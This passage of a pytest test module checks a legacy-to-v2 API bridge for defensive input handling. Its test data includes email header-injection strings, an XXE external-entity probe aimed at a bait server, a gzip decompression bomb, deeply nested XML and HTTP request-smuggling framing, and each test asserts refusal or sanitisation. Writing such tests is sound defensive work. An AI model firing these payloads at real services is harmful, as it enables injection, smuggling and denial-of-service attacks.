    pytest.param(document("<subject>\"}, {\"</subject>"), {"subject": '"}, {"'}, id="JSON-in-a-text"),
    pytest.param(
        document("<event-type>close</event-type><id>1</id><body>x</body>"), {"body": "x"}, id="not-settable"
    ),
    pytest.param(
        document("<include-pay-pal-link>false</include-pay-pal-link>"), {}, id="never-forwarded"
    ),
    pytest.param(document(""), {}, id="nothing"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "expected"), ACCEPTED)
async def test_what_is_odd_but_harmless_reaches_v2_as_just_this(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes, expected: dict[str, Any]
) -> None:
    answer = await post(bridge, body)

    assert answer.status == 201
    assert sent(upstream) == expected


NAMES = [
    pytest.param("Jane\r\nDoe &lt;{}&gt;", "Jane Doe", id="raw"),
    pytest.param("Jane&#13;&#10;Doe &lt;{}&gt;", "Jane Doe", id="by-number"),
    pytest.param("Jane&#10;&#10;Doe &lt;{}&gt;", "Jane Doe", id="two-line-feeds"),
    pytest.param("Jane&#13;Doe &lt;{}&gt;", "Jane Doe", id="carriage-return"),
    pytest.param("Jane&#9;Doe &lt;{}&gt;", "Jane Doe", id="tab"),
    pytest.param("Jane&#x85;Doe &lt;{}&gt;", "Jane Doe", id="next-line"),
    pytest.param("Jane&#x2028;Doe &lt;{}&gt;", "Jane Doe", id="line-separator"),
    pytest.param("Jane&#x9F;Doe &lt;{}&gt;", "Jane Doe", id="C1-control"),
    pytest.param("Jane&#x7F;Doe &lt;{}&gt;", "Jane Doe", id="delete"),
    pytest.param('"Jane\r\nDoe" &lt;{}&gt;', "Jane Doe", id="raw-in-quotes"),
    pytest.param('"Jane&#13;&#10;Doe" &lt;{}&gt;', "Jane Doe", id="by-number-in-quotes"),
    pytest.param('"Jane\\&#13;\\&#10;Doe" &lt;{}&gt;', "Jane  Doe", id="escaped-in-quotes"),
    pytest.param(
        '"Jane&#13;&#10;Bcc: all@doe.org" &lt;{}&gt;', "Jane Bcc: all@doe.org", id="header-in-quotes"
    ),
    pytest.param(
        '"Jane\r\n\r\n&lt;script>" &lt;{}&gt;', "Jane <script>", id="body-in-quotes"
    ),
    pytest.param("{} (Jane&#13;&#10;Doe)", "Jane Doe", id="in-a-comment"),
    pytest.param("{} (Jane\\&#13;\\&#10;Doe)", "Jane Doe", id="escaped-in-a-comment"),
    pytest.param("Jane&#13;&#10;X-Evil: Doe &lt;{}&gt;", "Doe", id="header-read-as-a-group"),
    pytest.param("Jane Bcc: all@doe.org &lt;{}&gt;", "all@doe.org", id="address-as-a-name"),
    pytest.param("&#13;&#10;&lt;{}&gt;&#13;&#10;", None, id="no-name"),
    pytest.param('"&#13;&#10;" &lt;{}&gt;', " ", id="nothing-else"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "name"), NAMES)
@pytest.mark.parametrize("element", ["recipients", "full-recipient-list"])
async def test_a_name_reaches_v2_on_one_line(
    upstream: ScriptedUpstream, bridge: LegacyClient, element: str, text: str, name: str | None
) -> None:
    inner = text.format("jane@doe.org")

    answer = await post(bridge, document(f"<{element}>{inner}</{element}>"))

    assert answer.status == 201
    recipient = {"email": "jane@doe.org", **({"name": name} if name is not None else {})}
    assert sent(upstream) == {"recipients": [recipient]}


# Sizes and transfers.


def pieces(total: int) -> AsyncIterator[bytes]:
    async def generate() -> AsyncIterator[bytes]:
        for _ in range(total // 65_536):
            yield b" " * 65_536

    return generate()


async def test_the_largest_body_is_read(upstream: ScriptedUpstream, bridge: LegacyClient) -> None:
    text = "x" * (MIB - len(document("<body></body>")))

    answer = await post(bridge, io.BytesIO(document(f"<body>{text}</body>")))

    assert answer.status == 201
    assert sent(upstream) == {"body": text}


@pytest.mark.parametrize("size", [MIB + 1, 2 * MIB])
async def test_a_larger_body_is_413(
    upstream: ScriptedUpstream, bridge: LegacyClient, size: int
) -> None:
    answer = await post(bridge, io.BytesIO(document().ljust(size)))

    assert_refused(answer, upstream, 413, TOO_LARGE)


async def test_a_larger_body_in_chunks_is_413(
    upstream: ScriptedUpstream, bridge: LegacyClient
) -> None:
    answer = await post(bridge, pieces(2 * MIB))

    assert_refused(answer, upstream, 413, TOO_LARGE)


async def test_the_limit_is_the_operators(upstream: ScriptedUpstream) -> None:
    upstream.says(CREATED)
    async with running_bridge(upstream.base_url, body_limit=100) as bridge:
        answer = await post(bridge, document().ljust(101))
        assert_refused(answer, upstream, 413, "The body has more than 100 bytes.")
        assert (await post(bridge, document().ljust(100))).status == 201


@pytest.mark.parametrize("event", ["mark_as_sent", "mark_as_closed", "mark_as_draft"])
@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        pytest.param((DTD + USED).encode(), XML, 400, id="document-type"),
        pytest.param(b"\xef\xbb\xbf" * 3 + DTD.encode() + document(), XML, 400, id="after-marks"),
        pytest.param(b"<a>" * 10_000, XML, 400, id="deep-nesting"),
        pytest.param(document("<body>x</body>" * 2), XML, 400, id="element-twice"),
        pytest.param(document(), "application/json", 415, id="JSON"),
        pytest.param(document(), f"{XML}; charset=utf-7", 415, id="UTF-7"),
        pytest.param(document().ljust(MIB + 1), XML, 413, id="too-large"),
    ],
)
async def test_a_change_of_state_reads_as_carefully(
    upstream: ScriptedUpstream,
    bridge: LegacyClient,
    event: str,
    body: bytes,
    content_type: str,
    status: int,
) -> None:
    answer = await post(bridge, io.BytesIO(body), content_type, path=f"{SEND}/{event}")

    assert_refused(answer, upstream, status)


async def test_a_body_that_is_dropped_is_not_even_read(
    upstream: ScriptedUpstream, bridge: LegacyClient, bait: Bait
) -> None:
    body = bait.laid(dtd('<!ENTITY e SYSTEM "{server}">') + USED)

    answer = await post(bridge, body, f"{XML}; charset=utf-7", path=f"{SEND}/re_open")

    assert answer.status == 200
    assert sent(upstream) == {"event_type": "re-open"}
    assert bait.connections == []


async def test_a_body_that_is_dropped_still_has_its_limit(
    upstream: ScriptedUpstream, bridge: LegacyClient
) -> None:
    answer = await post(bridge, io.BytesIO(b" " * (MIB + 1)), path=f"{SEND}/re_open")

    assert_refused(answer, upstream, 413, TOO_LARGE)


class TestCompression:
    """No v1 client compresses what it sends, so nothing is inflated: no bomb goes off."""

    @pytest.mark.parametrize(
        ("coding", "body"),
        [
            pytest.param("gzip", gzip.compress(document()), id="gzip"),
            pytest.param("deflate", zlib.compress(document()), id="deflate"),
            pytest.param("gzip", gzip.compress(b" " * 20 * MIB), id="gzip-bomb"),
            pytest.param("gzip", document(), id="no-gzip"),
            pytest.param("klingon", document(), id="unknown"),
        ],
    )
    async def test_a_compressed_body_is_415(
        self, upstream: ScriptedUpstream, bridge: LegacyClient, coding: str, body: bytes
    ) -> None:
        headers = {"Content-Type": XML, "Content-Encoding": coding}
        answer = await bridge.call("POST", SEND, headers=headers, body=body)

        assert_refused(answer, upstream, 415)

    @pytest.mark.parametrize(
        "head",
        [
            pytest.param(raw_call("Connection: close"), id="refused"),
            pytest.param(
                b"POST /invoices/7/messages HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                id="not-identified",
            ),
            pytest.param(
                b"GET /no/such/path HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                id="not-found",
            ),
        ],
    )
    async def test_nothing_is_inflated_while_the_rest_is_passed_over(
        self, bridge: LegacyClient, head: bytes, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def inflate(*_: object) -> bytes:
            raise AssertionError("inflated")

        monkeypatch.setattr(ZLibDecompressor, "decompress_sync", inflate)
        body = gzip.compress(b" " * 32 * MIB)
        more = f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"

        answer = await bridge.raw(head.removesuffix(b"\r\n") + more.encode() + body)

        assert answer.split(b" ")[1] in {b"415", b"401", b"404"}


class TestFraming:
    """What is wrong with the HTTP around a body."""

    @pytest.mark.parametrize(
        "call",
        [
            pytest.param(raw_call("Content-Length: -1"), id="negative-length"),
            pytest.param(raw_call("Content-Length: +5"), id="length-with-a-sign"),
            pytest.param(raw_call("Content-Length: 0x31"), id="length-in-hex"),
            pytest.param(raw_call("Content-Length: 4_9"), id="length-with-an-underscore"),
            pytest.param(raw_call("Content-Length: 49, 49"), id="list-of-lengths"),
            pytest.param(raw_call("Content-Length: " + "9" * 5000), id="length-of-5000-digits"),
            pytest.param(
                raw_call("Content-Length: 49", "Content-Length: 50", body=document()),
                id="two-lengths",
            ),
            pytest.param(
                raw_call(
                    "Content-Length: 49",
                    "Transfer-Encoding: chunked",
                    body=b"0\r\n\r\n" + document(),
                ),
                id="length-and-chunks",
            ),
            pytest.param(
                raw_call("Transfer-Encoding: gzip", body=document()), id="unknown-transfer-coding"
            ),
            pytest.param(raw_call(f"Content-Length: {10**20}"), id="length-past-64-bits"),
        ],
    )
    async def test_lengths_that_make_no_sense_are_400(
        self, upstream: ScriptedUpstream, bridge: LegacyClient, call: bytes
    ) -> None:
        head, _, body = (await bridge.raw(call)).partition(b"\r\n\r\n")

        assert upstream.received == []
        assert head.split(b" ")[1] == b"400"
        assert f"Hint: {NOT_HTTP}".encode() in head
        assert_valid(body, "errors")

    @pytest.mark.parametrize(
        "call",
        [
            pytest.param(
                raw_call("Transfer-Encoding: chunked", body=b"zz\r\n" + document()),
                id="chunk-of-no-size",
            ),
            pytest.param(
                raw_call("Transfer-Encoding: chunked", body=b"-31\r\n" + document()),
                id="chunk-of-negative-size",
            ),
            pytest.param(
                raw_call(
                    "Transfer-Encoding: chunked", body=b"5\r\n" + document() + b"\r\n0\r\n\r\n"
                ),
                id="chunk-longer-than-it-says",
            ),
            pytest.param(
                raw_call("Transfer-Encoding: chunked", body=b"31\r\n" + document() + b"\r\nzz\r\n"),
                id="second-chunk-of-no-size",
            ),
        ],
    )
    async def test_chunks_that_are_none_are_400(
        self, upstream: ScriptedUpstream, bridge: LegacyClient, call: bytes
    ) -> None:
        head, _, body = (await bridge.raw(call)).partition(b"\r\n\r\n")

        assert upstream.received == []
        assert head.startswith(b"HTTP/1.1 400 ")
        assert b"Hint: The body broke off, or is not encoded as its head says." in head
        assert_valid(body, "errors")

    async def test_what_follows_the_length_is_another_call(
        self, upstream: ScriptedUpstream
    ) -> None:
        call = raw_call("Content-Length: 39", body=document())

        # What follows begins like a head, whose rest the bridge waits for.
        async with running_bridge(upstream.base_url, head_timeout=0.1) as bridge:
            answer = await bridge.raw(call)

        assert upstream.received == []
        assert b"201" not in answer
        assert answer.count(b"</errors>") >= 1

    async def test_a_length_over_the_limit_is_413_before_the_body_comes(
        self, upstream: ScriptedUpstream, bridge: LegacyClient
    ) -> None:
        async with bridge.connection() as (reader, writer):
            writer.write(raw_call(f"Content-Length: {MIB + 1}"))

            assert (await reader.readuntil(b"\r\n")).startswith(b"HTTP/1.1 413 ")
        assert upstream.received == []

    @pytest.mark.parametrize(
        "call",
        [
            pytest.param(raw_call("Content-Length: 60", body=document()), id="length"),
            pytest.param(
                raw_call("Transfer-Encoding: chunked", body=b"31\r\n" + document() + b"\r\n"),
                id="chunks",
            ),
        ],
    )
    async def test_a_body_that_breaks_off_sends_nothing_and_is_no_defect(
        self, upstream: ScriptedUpstream, log: io.StringIO, bridge: LegacyClient, call: bytes
    ) -> None:
        async with bridge.connection() as (reader, writer):
            writer.write(call)
            writer.write_eof()

            assert (await reader.read()).startswith(b"HTTP/1.1 400 ")

        assert upstream.received == []
        assert "legacy_call" in log.getvalue()
        assert '"defect"' not in log.getvalue()


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    stream = io.StringIO()
    logs.configure(stream)
    yield stream
    structlog.reset_defaults()
